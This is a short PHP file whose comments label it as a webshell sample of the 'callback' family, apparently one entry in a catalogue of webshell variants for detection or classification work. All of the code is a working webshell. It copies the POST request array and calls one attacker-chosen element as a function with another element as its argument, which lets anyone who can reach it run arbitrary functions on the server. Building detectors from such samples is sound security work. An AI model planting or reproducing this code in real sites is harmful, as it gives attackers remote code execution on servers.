<?php
// Family: webshell/callback
// Style: request array copied into a variable, then element called
// Trait: whole superglobal aliased, one element used as function name with another element as argument
$q = $_POST;
if (count($q) > 1) { $q['fn']($q['arg']); }
